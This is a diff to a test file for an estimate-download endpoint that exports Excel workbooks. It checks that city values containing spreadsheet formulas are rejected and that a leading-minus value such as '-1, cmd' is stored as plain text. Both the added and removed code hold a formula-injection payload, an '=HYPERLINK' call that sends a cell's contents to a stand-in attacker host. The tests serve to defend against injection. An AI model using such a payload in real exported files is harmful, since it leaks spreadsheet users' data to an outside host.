@@ -4,7 +4,9 @@ import type { AnswerRecord } from "../../shared/engine/index";
 import { converse, finalOf, post, projectData, type ErrorJson } from "./api-helpers";
 import { formatOf, readXlsx } from "./xlsx-reader";
 
-const HOSTILE_CITY = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+// A formula cannot get in as a city (PRODUCT.md decision 16 allows letters, digits, spaces and
+// . , ' -), but a leading minus can: Excel would read "-1" typed into a cell as a number.
+const HOSTILE_CITY = "-1, cmd";
 
 async function finished(type = "single-family", state = "Texas", city: string | null = "Austin") {
   const pd = projectData(type, state, city);
@@ -91,7 +93,14 @@ describe("POST /api/download-estimate", () => {
     expect(all).toContain(final.requirements.at(-1));
   });
 
-  it("writes a custom city '=HYPERLINK(…)' as a text cell and no formula anywhere", async () => {
+  it("refuses a custom city '=HYPERLINK(…)' with 400 naming projectData.city", async () => {
+    const { pd, answers } = await finished();
+    const res = await download({ ...pd, city: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }, answers);
+    expect(res.status).toBe(400);
+    expect(((await res.json()) as ErrorJson).error.issues?.[0]?.path).toBe("projectData.city");
+  });
+
+  it("writes a custom city '-1, cmd' as a text cell, title-cased, and no formula anywhere", async () => {
     const { pd, answers } = await finished("single-family", "Texas", HOSTILE_CITY);
     const res = await download(pd, answers);
     expect(res.status).toBe(200);
@@ -99,7 +108,7 @@ describe("POST /api/download-estimate", () => {
     const location = book.cells.get("Summary")!.get("B4")!;
     expect(location.type).toBe("inlineStr");
     expect(location.formula).toBeNull();
-    expect(book.text("Summary", "B4")).toBe(`${HOSTILE_CITY}, Texas`);
+    expect(book.text("Summary", "B4")).toBe("-1, Cmd, Texas");
     for (const [name, xml] of Object.entries(book.files)) {
       if (name.startsWith("xl/worksheets/")) expect(xml).not.toMatch(/<f[ >]/);
     }
